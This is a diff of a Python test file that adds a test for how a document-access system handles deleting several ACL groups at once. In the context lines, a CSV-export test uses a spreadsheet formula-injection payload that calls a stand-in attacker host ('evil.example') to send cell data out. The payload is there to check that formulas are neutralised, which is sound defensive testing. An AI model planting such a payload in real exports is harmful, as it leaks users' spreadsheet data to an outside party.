@@ -53,6 +53,29 @@ def test_deleting_a_group_never_opens_its_documents(tmp_path: Path) -> None:
     assert AuditEvent.objects.filter(kind="acl_change", documents__contains=["power.md"]).exists()
 
 
+@pytest.mark.slow
+def test_deleting_all_of_a_documents_groups_in_one_action_never_opens_it(tmp_path: Path) -> None:
+    """The admin's "delete selected" deletes the groups in one queryset delete: the other group deleted with
+    one is not left to the document."""
+    _ingest(write_docs(tmp_path / "a", {"power.md": DOC}), IngestOptions(acl_groups=("facilities", "noc")))
+    _ingest(
+        write_docs(tmp_path / "b", {"power-b.md": DOC}),
+        IngestOptions(acl_groups=("facilities", "noc", "sre")),
+    )
+    outsider = Principal.from_user(make_user("emp", "employees"))
+    Group.objects.filter(name__in=["facilities", "noc"]).delete()
+    assert not document_list_visible(principal=outsider).exists()
+    closed = Document.objects.get(source="power.md")
+    assert closed.access_tier == "restricted" and not closed.allowed_groups.exists()
+    assert not Chunk.objects.filter(document=closed, acl_open=True).exists()
+    assert Chunk.objects.filter(document=closed, acl_groups=[]).exists()
+    kept = Document.objects.get(source="power-b.md")
+    assert kept.access_tier == "internal" and list(kept.allowed_groups.values_list("name", flat=True)) == [
+        "sre"
+    ]
+    assert AuditEvent.objects.filter(kind="acl_change", documents__contains=["power.md"]).exists()
+
+
 def test_the_csv_export_neutralises_formulas() -> None:
     attacker = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     audit_record(kind="login_failed", actor=attacker, verdict="denied", payload={"username": attacker})
